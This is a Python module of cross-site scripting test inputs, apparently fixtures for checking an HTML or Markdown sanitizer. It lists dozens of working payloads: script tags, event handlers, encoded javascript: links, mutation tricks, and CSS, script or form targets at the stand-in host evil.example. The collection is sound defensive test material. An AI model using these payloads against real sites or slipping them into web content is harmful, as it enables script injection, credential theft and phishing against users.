"""What somebody writes who wants a reader's browser to do their work: each calls alert(), or asks another site.

The classes are the well-known ones: elements that run, handlers of events, addresses that are code in every spelling,
styles, other documents within the page, markup that browsers mend into something else, and all that once more through
Markdown, the placeholders of lessons, and the attributes and texts into which words are put.
"""

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:alert(1)></a></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) onmouseover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/x) }</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><button>Next</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<a data-hx-get='/x' hx-get='/x' hx-trigger=load hx-on::load='alert(1)'>x</a>",
    "</textarea></title></option></script><script>alert(1)</script>",
    "\"><script>alert(1)</script><x y=\"' onmouseover='alert(1)",
    "{{ 7|add:7 }}{% debug %}${alert(1)}",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>alert(1)</script>",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)\N{FULLWIDTH LESS-THAN SIGN}/script>",
]

MARKDOWN = [
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](javascript&colon;alert(1))",
    "[link](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[link](java&Tab;script:alert(1))",
    "[link](<java\tscript:alert(1)>)",
    "[link](\x01javascript:alert(1))",
    "[link](vbscript:alert(1))",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](https://example.org 'title\" onmouseover=\"alert(1)')",
    "[link][hidden]\n\n[hidden]: javascript:alert(1)",
    "![image](javascript:alert(1))",
    "![image](//evil.example/x.png)",
    '![image"onerror="alert(1)](x "title\\"onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    "[<script>alert(1)</script>]{fact=fact-1}",
    '[words]{fact=fact-1" onmouseover="alert(1)}',
    '{fact:fact-1" onmouseover="alert(1)}',
    "{chart:<script>alert(1)</script>}",
    "```<script>\nalert(1)\n```",
    "`<img src=x onerror=alert(1)>`",
    "<script>\n\n*alert(1)*\n\n</script>",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "1. <b onclick=alert(1)>\n   - <i onmouseover=alert(1)>",
]

#: All of it, as one long text.
EVERYTHING = "\n\n".join([*HTML, *MARKDOWN])
#: What breaks out of an attribute and of an element, in one line.
ONE_LINE = "'\"><script>alert(1)</script><img src=x onerror=alert(1)>"
